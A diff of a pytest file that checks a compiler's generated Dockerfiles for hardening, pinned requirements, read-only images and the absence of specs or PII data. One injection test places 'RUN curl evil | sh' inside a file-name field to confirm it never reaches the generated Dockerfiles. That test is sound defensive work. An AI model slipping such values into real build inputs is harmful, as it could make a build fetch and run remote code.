@@ -1,9 +1,10 @@
 """The docker backend: Dockerfile structure and hardening, pinned requirements, determinism, and the
 real linters (hadolint from the project venv, checkov from its own venv) on the generated files.
 
-Also runs the dbt and training images' commands exactly as their Dockerfiles configure them
-(COPY, ENTRYPOINT, CMD, ENV), with /app read-only and /tmp mapped to a temporary folder, to show
-the images need no other writable path. The serving image gets the same treatment in test_serving.py.
+Also runs the dbt and training jobs' commands (the CronJobs' args) through the images' entrypoint and ENV,
+in a copy of the spec repository as the job's fetched working directory, with /app read-only and /tmp
+mapped to a temporary folder, to show the images need no specs and no other writable path. The serving
+image gets the same treatment in test_serving.py.
 """
 
 from __future__ import annotations
@@ -21,7 +22,7 @@ from pathlib import Path
 import pytest
 
 from compiler.emit.base import Artifact
-from compiler.emit.docker import FRAMEWORK_PACKAGES, PINS, SPECOPS_WHEEL, emit, serving_source
+from compiler.emit.docker import FRAMEWORK_PACKAGES, PINS, emit, serving_source
 from compiler.emit.registry import get_backend
 from compiler.front.check import require_project
 from compiler.spec.project import SpecProject
@@ -30,9 +31,9 @@ REPO_ROOT = Path(__file__).resolve().parent.parent
 EXAMPLE = REPO_ROOT / "examples" / "churn"
 VENV_BIN = Path(sys.executable).parent
 DOCKERFILES = ("docker/churn/Dockerfile.serve", "docker/churn/Dockerfile.train", "docker/dbt/Dockerfile")
-# build contexts, relative to the output folder (None: the spec repository root)
-CONTEXTS = {"docker/churn/Dockerfile.serve": "docker/churn", "docker/churn/Dockerfile.train": None,
-            "docker/dbt/Dockerfile": ""}
+# build contexts, relative to the output folder: each image's own folder, nothing of the spec repository
+CONTEXTS = {"docker/churn/Dockerfile.serve": "docker/churn", "docker/churn/Dockerfile.train": "docker/churn",
+            "docker/dbt/Dockerfile": "docker/dbt"}
 ENTRYPOINT = ["/bin/sh", "/opt/specops/entrypoint.sh"]
 PIN_LINE = re.compile(r"^[a-z0-9][a-z0-9-]*==\d+(\.\d+)+$")
 
@@ -132,17 +133,17 @@ def test_files_owners_and_base(artifacts: dict[str, Artifact]) -> None:
         "docker/dbt/Dockerfile", "docker/dbt/entrypoint.sh", "docker/dbt/requirements.txt",
     }
     assert all(a.base == "output" for a in artifacts.values())
-    assert {a.owners for p, a in artifacts.items()
-            if p.startswith("docker/churn/") and p != "docker/churn/Dockerfile.train"} == {("model.churn",)}
-    # the training Dockerfile copies the spec folders and the files they name: the model's and the Project's
-    assert artifacts["docker/churn/Dockerfile.train"].owners == ("model.churn", "project.churn_analytics")
+    model_only = ("docker/churn/entrypoint.sh", "docker/churn/requirements-serve.txt", "docker/churn/serve.py")
+    assert {artifacts[p].owners for p in model_only} == {("model.churn",)}
+    # a Dockerfile names its base image (python_version) and specops source: the Project's part
+    for path in ("docker/churn/Dockerfile.serve", "docker/churn/Dockerfile.train"):
+        assert artifacts[path].owners == ("model.churn", "project.churn_analytics")
+    # the training image holds the drivers of the environments' warehouses
+    assert artifacts["docker/churn/requirements-train.txt"].owners == ("model.churn", "environment.dev",
+                                                                     "environment.prod")
     assert artifacts["docker/dbt/entrypoint.sh"].owners == ("project.churn_analytics",)
-    assert artifacts["docker/dbt/requirements.txt"].owners == (
-        "project.churn_analytics", "environment.dev", "environment.prod")
-    dbt_owners = artifacts["docker/dbt/Dockerfile"].owners
-    assert "dataset.customer_features" in dbt_owners and "environment.prod" in dbt_owners
-    assert any(o.startswith("transform.") for o in dbt_owners) and any(o.startswith("quality_rule.") for o in dbt_owners)
-    assert not any(o.startswith(("model.", "deployment.")) for o in dbt_owners)
+    for path in ("docker/dbt/requirements.txt", "docker/dbt/Dockerfile"):
+        assert artifacts[path].owners == ("project.churn_analytics", "environment.dev", "environment.prod")
 
 
 @pytest.mark.parametrize("path", DOCKERFILES)
@@ -174,10 +175,8 @@ def test_dockerfile_hardening(artifacts: dict[str, Artifact], path: str) -> None
     _, env = image_config(content)
     assert {k: env[k] for k in ("HOME", "TMPDIR", "PYTHONDONTWRITEBYTECODE", "PIP_NO_CACHE_DIR")} == {
         "HOME": "/tmp", "TMPDIR": "/tmp", "PYTHONDONTWRITEBYTECODE": "1", "PIP_NO_CACHE_DIR": "1"}
-    # every path the image may write to is under /tmp (or /app/.specops, below SPECOPS_ROOT)
-    assert all(v.startswith("/tmp") for k, v in env.items()
-               if v.startswith("/") and k not in ("DBT_PROFILES_DIR", "DBT_PROJECT_DIR", "SPECOPS_ROOT"))
-    assert env.get("SPECOPS_ROOT", "/app") == "/app"
+    # every path the image may write to is under /tmp
+    assert all(v.startswith("/tmp") for v in env.values() if v.startswith("/"))
 
     runs = [a for w, a in found if w == "RUN" and "pip " in a]
     assert runs[0].startswith("pip wheel --no-cache-dir --wheel-dir /wheels -r ")
@@ -185,25 +184,16 @@ def test_dockerfile_hardening(artifacts: dict[str, Artifact], path: str) -> None
 
 
 @pytest.mark.parametrize("path", DOCKERFILES)
-def test_every_copied_file_is_in_the_build_context(churn: SpecProject, artifacts: dict[str, Artifact],
-                                                   path: str) -> None:
+def test_every_copied_file_is_in_the_build_context(artifacts: dict[str, Artifact], path: str) -> None:
     context = CONTEXTS[path]
-    output = {**artifacts, **{a.path: a for a in get_backend("dbt").emit(churn)}}
     for word, args in instructions(text(artifacts, path)):
         if word != "COPY" or args.startswith("--from"):
             continue
         for source in copy_args(args)[:-1]:
             source = source.rstrip("/")
-            if source.endswith(f"/dist/{SPECOPS_WHEEL}"):
-                continue  # staged by the CI, as the header says
-            if context is None:  # the repository root: the output folder is `build` in it
-                if source.startswith("build/"):
-                    assert source[len("build/"):] in output, (path, source)
-                else:
-                    assert (EXAMPLE / source).exists(), (path, source)
-                continue
-            rel = f"{context}/{source}".strip("/")
-            assert rel in output or any(p.startswith(rel + "/") for p in output), (path, source)
+            if source == "dist":
+                continue  # the specops wheel, staged by the image job, as the header says
+            assert f"{context}/{source}" in artifacts, (path, source)
 
 
 def test_commands(artifacts: dict[str, Artifact]) -> None:
@@ -212,32 +202,39 @@ def test_commands(artifacts: dict[str, Artifact]) -> None:
     assert serve_env["PORT"] == "8000"
     assert "EXPOSE 8000" in text(artifacts, "docker/churn/Dockerfile.serve")
     train, _ = image_config(text(artifacts, "docker/churn/Dockerfile.train"))
-    assert train[2:] == ["specops", "train", "churn"]
+    assert train[2:] == ["specops", "--version"]  # the jobs give the command (and the fetched specs)
     dbt, dbt_env = image_config(text(artifacts, "docker/dbt/Dockerfile"))
-    assert dbt[2:] == ["dbt", "build", "--profiles-dir", "/app/dbt", "--project-dir", "/app/dbt"]
+    assert dbt[2:] == ["dbt", "--version"]
     assert dbt_env["DBT_TARGET_PATH"].startswith("/tmp/") and dbt_env["DBT_LOG_PATH"].startswith("/tmp/")
 
 
-def test_training_image_installs_specops_only_from_the_staged_wheel(artifacts: dict[str, Artifact]) -> None:
-    content = text(artifacts, "docker/churn/Dockerfile.train")
-    assert f'COPY ["build/docker/churn/dist/{SPECOPS_WHEEL}", "/wheels/{SPECOPS_WHEEL}"]' in content
+@pytest.mark.parametrize("path", ["docker/churn/Dockerfile.train", "docker/dbt/Dockerfile"])
+def test_specops_is_installed_only_from_the_staged_wheel(artifacts: dict[str, Artifact], path: str) -> None:
+    content = text(artifacts, path)
+    assert 'COPY ["dist/", "/wheels/"]' in content
+    assert "pip wheel --no-deps --wheel-dir build/docker/" in content  # the header says how to stage it
     install = next(a for w, a in instructions(content) if w == "RUN" and "pip install" in a)
-    assert "--no-index" in install and install.endswith(" specops==0.1.0")
-    assert "specops" not in text(artifacts, "docker/churn/requirements-train.txt").split("specops 0.1.0")[1]
+    assert "--no-index" in install and install.endswith(" specops")
+    requirements = "docker/churn/requirements-train.txt" if "churn" in path else "docker/dbt/requirements.txt"
+    assert "specops" not in text(artifacts, requirements).split("specops 0.1.0")[1]
 
 
-def test_training_image_copies_what_the_loader_reads(artifacts: dict[str, Artifact]) -> None:
-    copies = [copy_args(a) for w, a in final_stage(text(artifacts, "docker/churn/Dockerfile.train")) if w == "COPY"]
-    assert copies == [
-        ["build/docker/churn/entrypoint.sh", "/opt/specops/entrypoint.sh"],
-        ["specs", "/app/specs"],
-        ["specops.yaml", "/app/"],
-        ["data/customers.csv", "data/subscriptions.csv", "data/support_tickets.csv", "/app/data/"],
-        ["sql/customer_activity.sql", "/app/sql/"],
-        ["training/churn.py", "/app/training/"],
-    ]
-    assert ("RUN", "install -d -o 10001 -g 10001 /app/.specops") in instructions(
-        text(artifacts, "docker/churn/Dockerfile.train"))
+def test_no_image_holds_specs_or_data(churn: SpecProject, artifacts: dict[str, Artifact]) -> None:
+    """Every COPY is a file generated into the image's own folder: no spec, no SQL, no training code, no seed (PII
+    and restricted data included), whatever the specs say."""
+    sensitive = [d for d in churn.datasets.values() if d.pii_columns or d.classification == "restricted"]
+    assert sensitive  # the example has PII columns in its seeds
+    for path in DOCKERFILES:
+        content = text(artifacts, path)
+        sources = [s for w, a in instructions(content) if w == "COPY" and not a.startswith("--from")
+                   for s in copy_args(a)[:-1]]
+        assert set(sources) <= {"dist/", "entrypoint.sh", "serve.py", "requirements-serve.txt",
+                                "requirements-train.txt", "requirements.txt"}, sources
+        for ds in churn.datasets.values():
+            if ds.source is not None and ds.source.path:
+                assert ds.source.path not in content
+    for name, art in artifacts.items():
+        assert not name.endswith(".csv") and b"customer_id" not in art.content
 
 
 def test_copied_sources(artifacts: dict[str, Artifact]) -> None:
@@ -269,8 +266,10 @@ def test_requirements_content(artifacts: dict[str, Artifact]) -> None:
     train = {line.split("==")[0] for line in requirement_lines(artifacts["docker/churn/requirements-train.txt"].content)}
     dbt = {line.split("==")[0] for line in requirement_lines(artifacts["docker/dbt/requirements.txt"].content)}
     assert serve == {"mlflow", "numpy", "pandas", "scikit-learn"}
-    assert serve | {"duckdb", "psycopg2-binary", "click", "jinja2", "jsonschema", "networkx", "pyyaml"} == train
-    assert dbt == {"dbt-core", "dbt-duckdb", "dbt-postgres"}  # the example has a duckdb and a postgres environment
+    specops_dependencies = {"click", "jinja2", "jsonschema", "networkx", "pyyaml"}
+    assert serve | {"duckdb", "psycopg2-binary"} | specops_dependencies == train
+    # the example has a duckdb and a postgres environment; the dbt job compiles the specs first
+    assert dbt == {"dbt-core", "dbt-duckdb", "dbt-postgres"} | specops_dependencies
 
 
 @pytest.mark.parametrize("framework", sorted(FRAMEWORK_PACKAGES))
@@ -305,17 +304,12 @@ def test_deterministic_and_independent_of_the_checkout(churn: SpecProject, tmp_p
 
 def test_user_text_cannot_add_instructions(churn: SpecProject) -> None:
     model = churn.models["churn"]
-    assert model.training is not None
-    odd = 'training/x $HOME "q"\nRUN curl evil | sh\r.py'
-    hostile = dataclasses.replace(model, loc=dataclasses.replace(model.loc, file="x.yaml\nRUN curl evil | sh\r"),
-                                  training=dataclasses.replace(model.training, entrypoint=odd))
+    hostile = dataclasses.replace(model, loc=dataclasses.replace(model.loc, file="x.yaml\nRUN curl evil | sh\r"))
     project = changed(churn, models={"churn": hostile})
     arts = {a.path: a.content.decode() for a in emit(project)}
     for path, content in arts.items():
         if "Dockerfile" in path or path.endswith(".txt"):
             assert not any(line.startswith("RUN curl") for line in content.splitlines()), path
-    copies = [copy_args(a) for w, a in instructions(arts["docker/churn/Dockerfile.train"]) if w == "COPY"]
-    assert [odd.replace("$", "\\$"), "/app/training/"] in copies
 
 
 # --------------------------------------------------------------------------- entrypoint.sh
@@ -338,6 +332,13 @@ def test_entrypoint_exports_mounted_secrets(artifacts: dict[str, Artifact], tmp_
     assert "skipping not-a-name" in done.stderr
     plain = subprocess.run(["/bin/sh", str(script), "true"], env={"PATH": os.environ.get("PATH", "")}, timeout=30)
     assert plain.returncode == 0
+    # a key file (SPECOPS_SECRET_FILES) is exported as its path, as dbt and the BigQuery client read it
+    (secrets / "GCP_KEY").write_text('{"type": "service_account"}')
+    keyed = subprocess.run(["/bin/sh", str(script), sys.executable, "-c",
+                            "import os; print(os.environ['GCP_KEY']); print(os.environ['WAREHOUSE_PASSWORD'])"],
+                           env={**env, "SPECOPS_SECRET_FILES": "OTHER GCP_KEY"}, capture_output=True, text=True,
+                           timeout=30)
+    assert keyed.stdout.splitlines() == [str(secrets / "GCP_KEY"), "p4ss word"]
 
 
 # --------------------------------------------------------------------------- real linters
@@ -394,37 +395,69 @@ def test_checkov_passes_every_dockerfile(artifacts: dict[str, Artifact], tmp_pat
     assert summary["passed"] > 0
 
 
-# --------------------------------------------------------------------------- the dbt image's command
+# --------------------------------------------------------------------------- the jobs' commands in the images
 
 
-@pytest.mark.slow
-def test_dbt_image_command_runs_with_a_read_only_app(churn: SpecProject, tmp_path: Path) -> None:
-    if not (VENV_BIN / "dbt").exists() and not shutil.which("dbt"):
-        pytest.skip("dbt is not installed")
-    out = write([*get_backend("dbt").emit(churn), *emit(churn)], tmp_path / "out")
-    app, tmp = tmp_path / "app", tmp_path / "tmp"
+def job_command(churn: SpecProject, cronjob: str, image: str) -> tuple[list[str], dict[str, str]]:
+    """What the CronJob runs through the image: ENTRYPOINT + the job's args, with the image's ENV and the job's
+    env (from examples/churn with its dev on servers, which has dev jobs; the fetched copy's dev is the laptop's)."""
+    import yaml
+    from conftest import served_dev
+
+    from compiler.emit.kubernetes import emit as k8s_emit
+
+    arts = {a.path: a for a in k8s_emit(served_dev(churn))}
+    job = yaml.safe_load(arts[f"k8s/dev/{cronjob}.cronjob.yaml"].content)
+    (container,) = job["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"]
+    entrypoint_cmd, image_env = image_config(image)
+    env = {**image_env, **{e["name"]: e["value"] for e in container["env"] if "value" in e}}
+    env.pop("MLFLOW_TRACKING_URI", None)  # the fetched copy's dev keeps its registry in a local file
+    return [*entrypoint_cmd[:2], *container["args"]], env
+
+
+def build_app(dockerfile: str, context: Path, app: Path, tmp: Path) -> None:
+    """/app and /opt/specops as the final stage's COPY instructions lay them out (no specs, no data)."""
+    app.mkdir(parents=True, exist_ok=True)
+    for word, args in final_stage(dockerfile):
+        if word == "COPY" and not args.startswith("--from"):
+            *sources, dest = copy_args(args)
+            for source in sources:
+                target, _ = map_paths([dest], {}, app, tmp)
+                target_path = Path(target[0])
+                target_path.parent.mkdir(parents=True, exist_ok=True)
+                shutil.copy(context / source, target_path)
+
+
+def run_job(churn: SpecProject, tmp_path: Path, dockerfile_path: str, cronjob: str,
+            prepare: list[list[str]] | None = None) -> tuple[subprocess.CompletedProcess, Path, Path]:
+    """The job in a read-only image: the fetched spec repository (a copy) as its writable working directory."""
+    out = write(emit(churn), tmp_path / "out")
+    dockerfile = (out / dockerfile_path).read_text()
+    app, tmp, fetched = tmp_path / "app", tmp_path / "tmp", tmp_path / "src" / "repo"
     tmp.mkdir()
-    build_app((out / "docker/dbt/Dockerfile").read_text(), out, app, tmp)
+    shutil.copytree(EXAMPLE, fetched, ignore=shutil.ignore_patterns("build", ".specops", ".ruff_cache"))
+    build_app(dockerfile, out / Path(dockerfile_path).parent, app, tmp)
     make_read_only(app)
-    argv, image_env = image_config((out / "docker/dbt/Dockerfile").read_text())
-    argv, env = map_paths(argv, image_env, app, tmp)
+    argv, env = job_command(churn, cronjob, dockerfile)
+    argv, env = map_paths(argv, env, app, tmp)
+    argv = [a.replace(" /tmp/", f" {tmp}/") for a in argv]  # inside the dbt job's script too
+    env = {k: str(fetched) if v == "/src/repo" else v for k, v in env.items()}
+    env["SPECOPS_ROOT"] = str(fetched)  # the dbt profile's embedded warehouse path (this simulation's only)
     env["PATH"] = f"{VENV_BIN}{os.pathsep}{os.environ.get('PATH', '')}"
     try:
-        done = subprocess.run(argv, cwd=tmp, env=env, capture_output=True, text=True, timeout=600)
-        assert done.returncode == 0, done.stdout[-4000:] + done.stderr[-2000:]
-        assert "Completed successfully" in done.stdout
-        assert (app / ".specops/dev.duckdb").is_file()
-        assert sorted(p.name for p in (app / "dbt").iterdir()) == sorted(p.name for p in (out / "dbt").iterdir())
-        assert {p.name for p in app.iterdir()} == {".opt", ".specops", "dbt"}
+        for command in prepare or []:
+            done = subprocess.run(command, cwd=fetched, env=env, capture_output=True, text=True, timeout=600)
+            assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
+        done = subprocess.run(argv, cwd=fetched, env=env, capture_output=True, text=True, timeout=600)
     finally:
         make_writable(app)
+    return done, app, fetched
 
 
 def make_read_only(root: Path) -> None:
-    """What the image's non-root user may do with /app but .specops: read (root ignores it: the listings check)."""
+    """What the image's non-root user may do with /app: read (root ignores it: the listings check)."""
     for path in [root, *root.rglob("*")]:
-        if ".specops" not in path.relative_to(root).parts:
-            path.chmod(path.stat().st_mode & ~(stat.S_IWUSR | stat.S_IWGRP | stat.S_IWOTH))
+        path.chmod(path.stat().st_mode & ~(stat.S_IWUSR | stat.S_IWGRP | stat.S_IWOTH))
 
 
 def make_writable(root: Path) -> None:
@@ -432,52 +465,32 @@ def make_writable(root: Path) -> None:
         path.chmod(path.stat().st_mode | stat.S_IWUSR)
 
 
-def build_app(dockerfile: str, context: Path, app: Path, tmp: Path) -> None:
-    """/app (and /opt/specops) as the final stage's COPY and RUN instructions lay them out."""
-    for word, args in final_stage(dockerfile):
-        if word == "COPY" and not args.startswith("--from"):
-            *sources, dest = copy_args(args)
-            for source in sources:
-                target, _ = map_paths([dest], {}, app, tmp)
-                target_path = Path(target[0])
-                if dest.endswith("/") and not (context / source).is_dir():  # a folder's content goes to dest
-                    target_path = target_path / Path(source).name
-                target_path.parent.mkdir(parents=True, exist_ok=True)
-                if (context / source).is_dir():
-                    shutil.copytree(context / source, target_path, dirs_exist_ok=True)
-                else:
-                    shutil.copy(context / source, target_path)
-        elif word == "RUN" and args.startswith("install -d"):
-            assert args == "install -d -o 10001 -g 10001 /app/.specops"
-            (app / ".specops").mkdir(parents=True)
+WAREHOUSE_FIRST = [["mkdir", "-p", ".specops"], ["specops", "compile"],
+                   ["dbt", "build", "--profiles-dir", "build/dbt", "--project-dir", "build/dbt"]]
 
 
 @pytest.mark.slow
-def test_training_image_command_trains_with_a_read_only_app(churn: SpecProject, tmp_path: Path) -> None:
+def test_dbt_job_compiles_the_fetched_specs_and_builds(churn: SpecProject, tmp_path: Path) -> None:
     if not (VENV_BIN / "dbt").exists() or not (VENV_BIN / "specops").exists():
         pytest.skip("dbt and specops must be installed in the test environment")
-    context = tmp_path / "repo"
-    shutil.copytree(EXAMPLE, context, ignore=shutil.ignore_patterns("build", ".specops", ".ruff_cache"))
-    write([*get_backend("dbt").emit(churn), *emit(churn)], context / "build")
-    dockerfile = (context / "build/docker/churn/Dockerfile.train").read_text()
-    app, tmp = tmp_path / "app", tmp_path / "tmp"
-    tmp.mkdir()
-    build_app(dockerfile, context, app, tmp)
-    make_read_only(app)
-    argv, env = map_paths(*image_config(dockerfile), app, tmp)
-    env["PATH"] = f"{VENV_BIN}{os.pathsep}{os.environ.get('PATH', '')}"
-    try:
-        # the dev warehouse, as the dbt image (SPECOPS_ROOT=/app) builds it into the same volume
-        dbt = subprocess.run([str(VENV_BIN / "dbt"), "build", "--profiles-dir", str(context / "build/dbt"),
-                              "--project-dir", str(context / "build/dbt")], cwd=tmp, capture_output=True, text=True,
-                             timeout=600, env={**env, "SPECOPS_ROOT": str(app)})
-        assert dbt.returncode == 0, dbt.stdout[-3000:]
-        done = subprocess.run([*argv, "--env", "dev"], cwd=app, env=env, capture_output=True, text=True,
-                              timeout=600)
-        assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
-        assert "alias 'champion' -> version 1" in done.stdout
-        assert (app / ".specops/mlflow.db").is_file() and (app / ".specops/dev.duckdb").is_file()
-        expected = {".opt", ".specops", "data", "specops.yaml", "specs", "sql", "training"}
-        assert {p.name for p in app.iterdir()} == expected  # nothing written to /app but .specops
-    finally:
-        make_writable(app)
+    # the warehouse as apply left it (an embedded one in this simulation; a cluster job's is a server)
+    done, app, fetched = run_job(churn, tmp_path, "docker/dbt/Dockerfile", "build-customer-features-dbt",
+                                 prepare=WAREHOUSE_FIRST)
+    assert done.returncode == 0, done.stdout[-4000:] + done.stderr[-2000:]
+    assert "Completed successfully" in done.stdout
+    assert (fetched / ".specops/dev.duckdb").is_file()  # the laptop dev's warehouse, in the fetched tree
+    assert {p.name for p in app.iterdir()} == {".opt"}  # nothing of the specs in the image, nothing written there
+    assert (tmp_path / "tmp" / "specops-build" / "dbt" / "dbt_project.yml").is_file()
+
+
+@pytest.mark.slow
+def test_training_job_trains_from_the_fetched_specs(churn: SpecProject, tmp_path: Path) -> None:
+    if not (VENV_BIN / "dbt").exists() or not (VENV_BIN / "specops").exists():
+        pytest.skip("dbt and specops must be installed in the test environment")
+    # the dev warehouse first (apply's dbt build), then the retraining job's command
+    done, app, fetched = run_job(churn, tmp_path, "docker/churn/Dockerfile.train", "churn-retrain",
+                                 prepare=WAREHOUSE_FIRST)
+    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-3000:]
+    assert "alias 'champion' -> version 1" in done.stdout
+    assert (fetched / ".specops/mlflow.db").is_file()
+    assert {p.name for p in app.iterdir()} == {".opt"}
